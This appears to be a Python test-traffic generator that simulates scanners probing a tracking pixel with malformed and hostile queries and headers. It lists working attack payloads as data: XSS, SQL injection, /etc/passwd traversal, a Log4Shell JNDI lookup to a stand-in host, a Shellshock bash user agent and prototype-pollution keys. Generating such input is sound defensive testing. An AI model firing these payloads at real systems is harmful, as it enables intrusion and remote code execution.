"""Queries and headers that nobody sends by accident twice: broken, huge, and probing."""

from typing import Final

from pixel.collect.request import Request
from pixel.simulate.addresses import DIGITAL_OCEAN, HETZNER, OVH, address, forwarded
from pixel.simulate.chance import Chance
from pixel.simulate.hit import Hit

QUERIES: Final = (
    "customerId=%",
    "customerId=%zz&product=%u00e4&activity=%E4%BD",
    "customerId=1%00&product=%00%00&activity=a%00b",
    "customerId=%3Cscript%3Ealert(1)%3C%2Fscript%3E&product=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    "customerId=1'+OR+'1'%3D'1&product=1%3BDROP+TABLE+events--",
    "product=..%2f..%2f..%2fetc%2fpasswd&activity=%252e%252e%252f",
    "customerId=1&amp;product=p1&amp;amp;activity=page_view",
    "url=javascript%3Aalert(1)&ref=data%3Atext%2Fhtml%2Cx",
    "url=https%3A%2F%2F%5B%3A%3A1&ref=%2F%2F%2F%2F&url=http%3A%2F%2Fa%2Fb%3Fc%23d",
    "customerId=${jndi:ldap://198.51.100.7/a}&product={{7*7}}",
    "&&&===&=&a&=b&%3D=%26",
    "\xff\xfe\xfd=\xe4\xf6\xfc&customerId=\xc3\x28",
    "eventId=" + "e" * 300 + "&occurredAt=-1&consent=perhaps",
    "occurredAt=9999999999999999999&eventId=",
    "hints=;;;;;;;;;&hints=%3B%3B%3B%3B%3B" + "x" * 500,
    "utm_source=%F0%9F%98%80&utm_campaign=%ED%A0%80&gclid=" + "A" * 2000,
    "customerId=" + "9" * 20_000,
    "&".join(f"k{number}={number}" for number in range(2500)),
    "a=" * 6000,
    "%61" * 6500,
    "__proto__[x]=1&constructor=2&class.module.classLoader=3",
    "customerId=%E2%80%AE%E2%80%8B%EF%BB%BF&product=%C0%AF",
)
_USER_AGENTS: Final = (
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nikto/2.5.0)",
    "",
    "() { :; }; /bin/bash -c 'id'",
    "Mozilla/5.0 " + "(" * 4000,
    "${jndi:ldap://198.51.100.7/a}",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "\xc4\xd6\xdc " + "9." * 3000,
    "Mozilla/5.0 zgrab/0.x",
    "'\"><script>alert(1)</script>",
)


def probe(chance: Chance, at: float) -> list[Hit]:
    """Return the hits of one who tries what a pixel does with nonsense."""
    user_agent = chance.pick(_USER_AGENTS)
    ip, session = address(chance, chance.pick((DIGITAL_OCEAN, HETZNER, OVH))), f"x-{chance.hexadecimal(10)}"
    found: list[Hit] = []
    for _ in range(1 + chance.below(3)):
        headers = {"host": "px.example.com"}
        if user_agent:
            headers["user-agent"] = user_agent
        if chance.random() < 0.2:
            headers["referer"] = "https://" + "a" * 5000
        headers["x-forwarded-for"] = forwarded(chance, ip)
        request = Request("GET", "/pix", chance.pick(QUERIES), headers, at, ip)
        found.append(Hit(request, "hostile", "scanner", False, "", session))
        at += 0.2 + chance.random()
    return found
